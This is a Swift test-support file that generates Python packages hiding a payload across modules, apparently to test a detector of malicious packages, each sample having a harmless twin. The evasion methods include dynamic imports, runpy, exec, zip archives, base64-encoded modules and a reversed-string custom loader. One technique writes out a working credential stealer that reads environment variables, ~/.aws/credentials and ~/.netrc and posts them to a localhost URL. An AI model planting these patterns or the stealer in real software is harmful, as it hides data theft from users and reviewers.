import TestSupport

extension Family {
  /// Code that is spread over modules, or imported in a way that names none.
  static let modules = Family(
    name: "modules",
    techniques: [
      module("a submodule", "from . import {a}\n"),
      split("a function in another module", "from .{a} import {b}\n", "{b}()\n", "{c} = {b}\n"),
      split("a star import", "from .{a} import *\n", "{b}()\n", "{c} = {b}\n"),
      split("an absolute import of oneself", "import {home}.{a} as {c}\n", "{c}.{b}()\n", "{d} = {c}.{b}\n"),
      split(
        "a relative import by name", "import importlib\n{c} = importlib.import_module(\".{a}\", __name__)\n",
        "{c}.{b}()\n", "{d} = {c}.{b}\n"),
      split(
        "__import__ with a level", "{c} = __import__(\"{a}\", globals(), locals(), [\"{b}\"], 1)\n", "{c}.{b}()\n",
        "{d} = {c}.{b}\n"),
      split(
        "a loop over the names of modules", "import importlib\n",
        "for {c} in [\"{a}\"]:\n    getattr(importlib.import_module(__name__ + \".\" + {c}), \"{b}\")()\n",
        "for {c} in [\"{a}\"]:\n    getattr(importlib.import_module(__name__ + \".\" + {c}), \"{b}\")\n"),
      split(
        "pkgutil.walk_packages", "import importlib, pkgutil\n",
        "for {c} in pkgutil.iter_modules(__path__):\n    getattr(importlib.import_module(__name__ + \".\" + {c}.name), \"{b}\")()\n",
        "for {c} in pkgutil.iter_modules(__path__):\n    getattr(importlib.import_module(__name__ + \".\" + {c}.name), \"{b}\")\n"
      ),
      split(
        "a listing of the package's folder", "import importlib, os\n",
        "for {c} in os.listdir(os.path.dirname(__file__)):\n    if {c}.endswith(\".py\") and not {c}.startswith(\"_\"):\n        importlib.import_module(__name__ + \".\" + {c}[:-3]).{b}()\n",
        "for {c} in os.listdir(os.path.dirname(__file__)):\n    if {c}.endswith(\".py\") and not {c}.startswith(\"_\"):\n        {d} = {c}[:-3]\n"
      ),
      split(
        "spec_from_file_location",
        "import importlib.util, os\n{c} = importlib.util.spec_from_file_location(\"{d}\", os.path.join(os.path.dirname(__file__), \"{a}.py\"))\n{d} = importlib.util.module_from_spec({c})\n{c}.loader.exec_module({d})\n",
        "{d}.{b}()\n", "{c} = {d}.{b}\n"),
      split(
        "SourceFileLoader",
        "import importlib.machinery, os\n{d} = importlib.machinery.SourceFileLoader(\"{d}\", os.path.join(os.path.dirname(__file__), \"{a}.py\")).load_module()\n",
        "{d}.{b}()\n", "{c} = {d}.{b}\n"),
      split(
        "an extended search path",
        "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\nimport {a}\n", "{a}.{b}()\n",
        "{c} = {a}.{b}\n"),
      split(
        "an extended package path",
        "import os\n__path__.append(os.path.join(os.path.dirname(__file__), \"{d}\"))\nfrom . import {a}\n",
        "{a}.{b}()\n", "{c} = {a}.{b}\n", folder: "{d}/"),
      split(
        "a lazy import in a function", "def {c}():\n    from .{a} import {b}\n    return {b}\n", "{c}()()\n",
        "{d} = {c}()\n"),
      split(
        "a module's __getattr__",
        "import sys\ndef __getattr__({c}):\n    import importlib\n    return getattr(importlib.import_module(\"{home}.{a}\"), {c})\n",
        "sys.modules[__name__].{b}()\n", "{d} = sys.modules[__name__].{b}\n"),
      split(
        "a re-export through three modules", "from .{c} import {b}\n", "{b}()\n", "{d} = {b}\n",
        extra: { "from .\($0("d")) import \($0("b"))\n|\($0("c"))|from .\($0("a")) import \($0("b"))\n|\($0("d"))" }),
      split(
        "an alias in __all__", "from . import {a} as {c}\n__all__ = [\"{c}\"]\n", "getattr({c}, \"{b}\")()\n",
        "{d} = getattr({c}, \"{b}\")\n"),
      split(
        "a try around an import",
        "try:\n    from missing_{c} import {b}\nexcept ImportError:\n    from .{a} import {b}\n", "{b}()\n",
        "{d} = {b}\n"),
      split("a circular import", "{c} = 1\nfrom . import {a}\n", "{a}.{b}()\n", "{d} = {a}.{b}\n"),
      Technique("constants in one module, collecting in another, sending in a third", twin: .idle) { plot in
        let (names, collect, send, box) = (plot.scene.word(), plot.scene.word(), plot.scene.word(), plot.scene.word())
        let url = "http://127.0.0.1:\(plot.scene.pick(Scene.ports))/\(plot.scene.word())"
        let use =
          plot.isHarmful
          ? "\(send).\(send)(\(collect).\(collect)())\n" : "\(box) = [\(send).\(send), \(collect).\(collect)]\n"
        return Code(
          "from . import \(collect), \(send)\n" + use,
          files: [
            ("\(names).py", bytes("URL = \"\(url)\"\nPLACES = [\"~/.aws/credentials\", \"~/.netrc\"]\n")),
            (
              "\(collect).py",
              bytes(
                """
                import os
                from .\(names) import PLACES
                def \(collect)():
                    \(box) = dict(os.environ)
                    for place in PLACES:
                        if os.path.exists(os.path.expanduser(place)):
                            \(box)[place] = open(os.path.expanduser(place)).read()
                    return \(box)

                """)
            ),
            (
              "\(send).py",
              bytes(
                """
                import json, urllib.request
                from .\(names) import URL
                def \(send)(box):
                    urllib.request.urlopen(URL, data=json.dumps(box).encode())

                """)
            ),
          ])
      },
      Technique("a class split over two modules", twin: .idle) { plot in
        let (base, child, method) = (plot.scene.word(), plot.scene.word(), plot.scene.word())
        return Code(
          "from .\(child) import \(child)\n"
            + (plot.isHarmful ? "\(child)().\(method)()\n" : "\(method) = \(child)()\n"),
          files: [
            (
              "\(base).py",
              bytes(
                Technique.fill(
                  "class \(base):\n    def run(self):\n        {body}\n    def \(method)(self):\n        self.run()\n",
                  with: plot.body))
            ),
            ("\(child).py", bytes("from .\(base) import \(base)\nclass \(child)(\(base)):\n    pass\n")),
          ])
      },
      Technique("a global that another module reads", twin: .idle) { plot in
        let (a, b, flag) = (plot.scene.word(), plot.scene.word(), plot.scene.word())
        return Code(
          "from . import \(a)\n\(a).\(flag) = \(plot.isHarmful ? 1 : 0)\nfrom . import \(b)\n",
          files: [
            ("\(a).py", bytes("\(flag) = 0\n")),
            ("\(b).py", bytes(Technique.fill("from . import \(a)\nif \(a).\(flag):\n    {body}\n", with: plot.body))),
          ])
      },
      Technique("runpy.run_path", twin: .idle) { plot in
        let name = plot.scene.word()
        let use = plot.isHarmful ? "runpy.run_path(\(name))" : "\(name) = os.path.getsize(\(name))"
        return Code(
          "import os, runpy\n\(name) = os.path.join(os.path.dirname(__file__), \"\(name).py\")\n\(use)\n",
          files: [("\(name).py", bytes(plot.body))])
      },
      Technique("runpy.run_module", twin: .idle) { plot in
        let name = plot.scene.word()
        let use = plot.isHarmful ? "runpy.run_module(__name__ + \".\(name)\")" : "\(name) = __name__ + \".\(name)\""
        return Code("import runpy\n\(use)\n", files: [("\(name).py", bytes(plot.body))])
      },
      Technique("exec of a sibling's source") { plot in
        let name = plot.scene.word()
        return Code(
          "import os\nexec(open(os.path.join(os.path.dirname(__file__), \"\(name).py\")).read())\n",
          files: [("\(name).py", bytes(plot.body))])
      },
      Technique("a zip archive on the search path") { plot in
        let (name, archive) = (plot.scene.word(), plot.scene.word())
        return Code(
          "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), \"\(archive).zip\"))\nimport \(name)\n",
          files: [("\(archive).zip", ZipBuilder([("\(name).py", bytes(plot.body))]).build())])
      },
      Technique("zipimport") { plot in
        let (name, archive) = (plot.scene.word(), plot.scene.word())
        return Code(
          "import os, zipimport\nzipimport.zipimporter(os.path.join(os.path.dirname(__file__), \"\(archive).dat\")).load_module(\"\(name)\")\n",
          files: [("\(archive).dat", ZipBuilder([("\(name).py", bytes(plot.body))]).build())])
      },
      Technique("a module made of text") { plot in
        let (name, text) = (plot.scene.word(), Encoder.base64(bytes(plot.body)))
        return Code(
          """
          import base64, sys, types
          \(name) = types.ModuleType("\(name)")
          exec(base64.b64decode("\(text)"), \(name).__dict__)
          sys.modules["\(name)"] = \(name)

          """)
      },
      Technique("a loader of its own") { plot in
        let (name, loader) = (plot.scene.word(), plot.scene.word())
        return Code(
          """
          import importlib.abc, importlib.util, sys
          class \(loader)(importlib.abc.Loader):
              def create_module(self, spec):
                  return None
              def exec_module(self, module):
                  exec(\(Python.string(String(plot.body.reversed())))[::-1], module.__dict__)
          class \(loader)Finder:
              def find_spec(self, name, path=None, target=None):
                  if name == "\(name)":
                      return importlib.util.spec_from_loader(name, \(loader)())
          sys.meta_path.append(\(loader)Finder())
          import \(name)

          """)
      },
    ])

  /// Code in a module of its own that runs as it is imported.
  private static func module(_ name: String, _ run: String) -> Technique {
    Technique(name) { plot in
      let a = plot.scene.word()
      return Code(run.replacing("{a}", with: a), files: [("\(a).py", bytes(plot.body))])
    }
  }

  /// Code in a function `b` of a module `a`, of which the package calls or merely mentions the function.
  ///
  /// - Parameter extra: Further modules as `source|name|source|name`.
  private static func split(
    _ name: String, _ both: String, _ run: String, _ idle: String, folder: String = "",
    extra: (@Sendable ((String) -> String) -> String)? = nil
  ) -> Technique {
    Technique(name, twin: .idle) { plot in
      var words = ["home": plot.home]
      for letter in ["a", "b", "c", "d"] { words[letter] = plot.scene.word() }
      func filled(_ text: String) -> String { words.reduce(text) { $0.replacing("{\($1.key)}", with: $1.value) } }
      let module = Technique.fill(filled("def {b}():\n    {body}\n"), with: plot.body)
      var files = [(path: filled(folder + "{a}.py"), data: bytes(module))]
      if let extra {
        let parts = extra { words[$0] ?? "" }.split(separator: "|").map(String.init)
        for index in stride(from: 0, to: parts.count - 1, by: 2) {
          files.append(("\(parts[index + 1]).py", bytes(parts[index])))
        }
      }
      return Code(filled(both + (plot.isHarmful ? run : idle)), files: files)
    }
  }
}
